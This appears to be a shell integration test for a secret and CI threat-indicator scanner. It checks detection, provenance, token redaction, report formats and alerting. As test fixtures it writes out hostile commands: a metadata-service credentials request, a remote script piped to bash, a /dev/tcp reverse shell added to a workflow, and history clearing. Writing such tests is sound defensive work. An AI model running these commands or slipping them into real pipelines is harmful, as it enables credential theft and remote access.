#!/usr/bin/env bash
# Threat indicators (kind: indicator rules): found in CI logs and in pipeline
# definitions of every commit, never in other content; a malicious step added
# in one commit and removed in the next is reported with that commit's id,
# author, path and line (the repository packed, so its blobs are scanned ahead
# of the walk, with no path yet); a token inside an indicator's command line
# is redacted in its text and its identity; reports tell the kinds apart
# (JSONL/JSON kind, text section, --kind, --summary, SARIF tags and kind, the
# scan's summary line) and the schema holds; a merge carries the kind.
set -e
. "$(dirname "$0")/lib.sh"
cd "$T"

tok=$($FAKE github 1701)
# A CI log: a credentials request to the metadata service, a remote script run
# with a token in its header, and a README printed with the same commands in a
# code block (documentation: not reported).
mkdir -p logs src
{
  printf '2026-03-04T05:00:01.0000000Z ##[group]Run curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ci-role\n'
  printf '2026-03-04T05:00:02.0000000Z {"Code": "Success"}\n'
  printf '2026-03-04T05:00:03.0000000Z curl -sSL -H "Authorization: token %s" https://203.0.113.7/x.sh | bash\n' "$tok"
  printf '2026-03-04T05:00:04.0000000Z cat README.md\n'
  printf '2026-03-04T05:00:05.0000000Z ```sh\n'
  printf '2026-03-04T05:00:06.0000000Z curl -fsSL https://get.example.com/install.sh | sh\n'
  printf '2026-03-04T05:00:07.0000000Z ```\n'
  printf '2026-03-04T05:00:08.0000000Z ntpd: synchronized, stratum 2\n'
} > logs/job.log
# Source code naming the same addresses: a security tool, not an attack.
printf 'IMDS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\nINSTALL = "curl -fsSL https://get.example.com/install.sh | sh"\n' > src/tool.py

# A repository: a workflow, a poisoned step added by mallory in commit 2 and
# removed in commit 3; the same command in a script outside any CI path.
git init -q r
mkdir -p r/.github/workflows r/scripts
printf 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n' > r/.github/workflows/ci.yml
printf '#!/bin/sh\n# what the attacker ran, kept for the write-up\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' > r/scripts/incident-notes.sh
(cd r && git add -A && gcommit alice "ci: build")
printf 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n      - run: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' > r/.github/workflows/ci.yml
printf 'variables:\n  CI_DEBUG_TRACE: "true"\ntest:\n  script: make test\n' > r/.gitlab-ci.yml
(cd r && git add -A && gcommit mallory "ci: speed up the build")
bad=$(git -C r rev-parse HEAD)
printf 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n' > r/.github/workflows/ci.yml
git -C r rm -q .gitlab-ci.yml
(cd r && gcommit alice "ci: revert")
git -C r repack -adq

run_ferret scan --db d.db logs src r
assert_eq "$RC" 1 "scan: open findings (secrets or indicators) exit 1"
assert_contains "$ERR" "the scanned targets hold 5 findings (1 secret, 4 threat indicators)" "scan summary counts the kinds apart"
"$FERRET" report --db d.db --format jsonl --secret-hashes > all.jsonl || true
assert_eq "$(pyjsonl all.jsonl "sorted((r['kind'], r['rule']) for r in rows)")" \
  "[('indicator', 'indicator.aws-imds-credentials'), ('indicator', 'indicator.curl-pipe-shell'), ('indicator', 'indicator.gitlab-ci-debug-trace'), ('indicator', 'indicator.reverse-shell-dev-tcp'), ('secret', 'github.pat')]" \
  "one finding per indicator and the token: nothing from src/, scripts/ or the README's code block"
ind() { pyjsonl all.jsonl "[r for r in rows if r['rule'] == '$1'][0]$2"; }
assert_eq "$(ind indicator.aws-imds-credentials "['preview']")" \
  "169.254.169.254/latest/meta-data/iam/security-credentials/ci-role" "the indicator's text"
assert_eq "$(pyjsonl all.jsonl "[[r[k] for k in ('attack', 'attack_version', 'severity')] for r in rows if r['rule'] == 'indicator.aws-imds-credentials'][0]")" \
  "['T1552.005', '18', 'high']" "ATT&CK technique, version, severity"
assert_eq "$(pyjsonl all.jsonl "[(o['path'], o['line']) for r in rows if r['rule'] == 'indicator.aws-imds-credentials' for o in r['occurrences']]")" \
  "[('logs/job.log', 1)]" "in the log, line 1"
# The token inside the curl line: redacted in the indicator's text and absent
# from its identity; the token itself is its own secret finding.
curl_prev=$(ind indicator.curl-pipe-shell "['preview']")
assert_not_contains "$curl_prev" "$tok" "no token in the indicator's text"
assert_contains "$curl_prev" "curl -sSL -H \"Authorization: token ${tok:0:4}****" "the token's span redacted in place"
assert_contains "$curl_prev" "https://203.0.113.7/x.sh | bash" "the rest of the command kept"
assert_eq "$(ind indicator.curl-pipe-shell "['secret_sha256']")" "$(sha256 "$curl_prev")" "identity: the hash of the redacted text"
assert_eq "$(sqlite3 d.db .dump | grep -c -F "$tok" || true)" 0 "no token anywhere in the store"
assert_eq "$(pyjsonl all.jsonl "[o['line'] for r in rows if r['rule'] == 'github.pat' for o in r['occurrences']]")" "[3]" "the token found as a secret too"

# Item 3: the poisoned step, with the commit that added it.
assert_eq "$(ind indicator.reverse-shell-dev-tcp "['preview']")" "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" "the step's command"
assert_eq "$(pyjsonl all.jsonl "[(o['path'], o['line'], o['commit'], o['author_email']) for r in rows if r['rule'] == 'indicator.reverse-shell-dev-tcp' for o in r['occurrences']]")" \
  "[('.github/workflows/ci.yml', 8, '$bad', 'mallory@example.com')]" \
  "provenance: path, line, the adding commit and its author (not scripts/incident-notes.sh)"
assert_eq "$(pyjsonl all.jsonl "[(o['path'], o['line'], o['commit']) for r in rows if r['rule'] == 'indicator.gitlab-ci-debug-trace' for o in r['occurrences']]")" \
  "[('.gitlab-ci.yml', 2, '$bad')]" "the GitLab definition: CI_DEBUG_TRACE in the same commit"

# --kind, the text report's own section, --summary
run_ferret report --db d.db --format jsonl --kind indicator
assert_eq "$(printf '%s\n' "$OUT" | grep -c '"kind":"indicator"')" 4 "--kind indicator: the four indicators"
assert_eq "$(printf '%s\n' "$OUT" | grep -c '')" 4 "--kind indicator: nothing else"
run_ferret report --db d.db --format jsonl --kind secret
assert_eq "$(printf '%s\n' "$OUT" | grep -c '"rule":"github.pat"')" 1 "--kind secret: the token"
assert_eq "$(printf '%s\n' "$OUT" | grep -c '')" 1 "--kind secret: nothing else"
run_ferret report --db d.db --kind bogus
assert_eq "$RC" 2 "--kind: a wrong value is an error"
run_ferret report --db d.db
printf '%s\n' "$OUT" > text.txt
assert_eq "$(grep -n -e '^\[.*github.pat' -e '^== threat indicators' -e '^\[.*indicator\.' text.txt | cut -d: -f2 | cut -c1-12 | uniq | tr '\n' ' ')" \
  "[critical] g == threat in [critical] i [high] indic [medium] ind " \
  "text: the indicators' section follows the secrets"
assert_eq "$(printf '%s\n' "$OUT" | tail -1)" "5 findings (1 secret, 4 threat indicators)" "text: the count line"
assert_eq "$(printf '%s\n' "$OUT" | grep -c '^    matched ')" 4 "text: each indicator's matched text"
run_ferret report --db d.db --summary --format json
printf '%s\n' "$OUT" > sum.json
assert_eq "$(python3 -c "import json; print(json.load(open('sum.json'))['by_kind'])")" "{'indicator': 4, 'secret': 1}" "summary by kind"

# the schema holds, with the kinds
"$FERRET" report --db d.db --format json > all.json || true
python3 - "$FERRET_SRC/schemas" <<'PY' && ok || fail "schema validation"
import json, sys, jsonschema
rep = json.load(open(sys.argv[1] + "/report.schema.json"))
v = jsonschema.Draft202012Validator(rep)
rows = [json.loads(l) for l in open("all.jsonl") if l.strip()] + json.load(open("all.json"))
assert len(rows) == 10, len(rows)
for r in rows:
    v.validate(r)
bad = dict(rows[0]); bad["kind"] = "other"
assert not v.is_valid(bad)
summary = dict(rep["$defs"]["summary"], **{"$defs": rep["$defs"]})
jsonschema.Draft202012Validator(summary).validate(json.load(open("sum.json")))
PY

# SARIF: rule tags and properties, results of kind "fail" at a level
(cd r && "$FERRET" report --db ../d.db --format sarif --output ../r.sarif) || true
python3 - <<'PY' > sarif.txt
import json
s = json.load(open("r.sarif"))
rules = {r["id"]: r for run in s["runs"] for r in run["tool"]["driver"].get("rules", [])}
r = rules["indicator.reverse-shell-dev-tcp"]
print(r["properties"]["tags"], r["properties"]["kind"], r["properties"]["attackVersion"])
print(rules["github.pat"]["properties"]["tags"][:2], rules["github.pat"]["properties"]["kind"])
res = [x for run in s["runs"] for x in run["results"] if x["ruleId"] == "indicator.reverse-shell-dev-tcp"]
print(len(res), res[0]["kind"], res[0]["level"], res[0]["properties"]["kind"])
PY
assert_eq "$(cat sarif.txt)" "['security', 'indicator', 'T1059.004'] indicator 18
['security', 'secret'] secret
1 fail error indicator" "SARIF: tags, kind and ATT&CK version"

# The scheduled sweep alerts on each kind apart: new secrets exit 1, new
# indicators only exit 3, each with its own report and alert command.
mkdir sweep
printf '2026-03-04T05:00:01.0000000Z export GITHUB_TOKEN=%s\n' "$($FAKE github 1702)" > sweep/a.log
sweep() {
  set +e
  FERRET="$FERRET" FERRET_ON_NEW_SECRETS="touch $T/alerted-secrets" FERRET_ON_NEW_INDICATORS="cp -t $T/ind-alerts" \
    bash "$FERRET_SRC/scripts/schedule/ferret-sweep.sh" "$T/w.db" sweep > sweep.out 2>&1
  SW=$?
  set -e
}
mkdir ind-alerts
sweep
assert_eq "$SW:$(ls w-new-secrets-*.sarif | wc -l):$(ls ind-alerts | wc -l)" "1:1:0" "sweep: a new secret exits 1, its report, no indicator alert"
assert_eq "$([ -e alerted-secrets ] && echo yes)" "yes" "sweep: the secrets' alert command ran"
rm alerted-secrets
sleep 1 # the reports are named by the second
printf '2026-03-04T05:00:01.0000000Z + history -c\n' > sweep/b.log
sweep
assert_eq "$SW:$(ls w-new-secrets-*.sarif | wc -l):$(ls ind-alerts | wc -l)" "3:1:1" "sweep: a new indicator only exits 3 and alerts apart"
assert_eq "$([ -e alerted-secrets ] && echo yes)" "" "sweep: no secrets' alert for an indicator"
assert_eq "$(python3 -c "import json,sys; s=json.load(open(sys.argv[1])); print([r['ruleId'] for run in s['runs'] for r in run['results']])" ind-alerts/*.sarif)" \
  "['indicator.history-disabled']" "sweep: the indicators' report holds the new indicator only"
sweep
assert_eq "$SW:$(cat sweep.out)" "0:" "sweep: nothing new, nothing printed"

# A merge carries the kind.
mkdir o && run_ferret scan --db o/org.db o
run_ferret merge --db o/org.db d.db
assert_eq "$RC" 0 "merge ($ERR)"
assert_eq "$(sqlite3 o/org.db "SELECT kind, count(*) FROM findings GROUP BY kind ORDER BY kind" | tr '\n' ' ')" \
  "indicator|4 secret|1 " "the merged store: kinds kept"
assert_eq "$(sqlite3 o/org.db "SELECT kind || ' ' || attack_version FROM rules WHERE id = 'indicator.gitlab-ci-debug-trace'")" \
  "indicator 18" "the merged store: the rule's kind and ATT&CK version"
finish
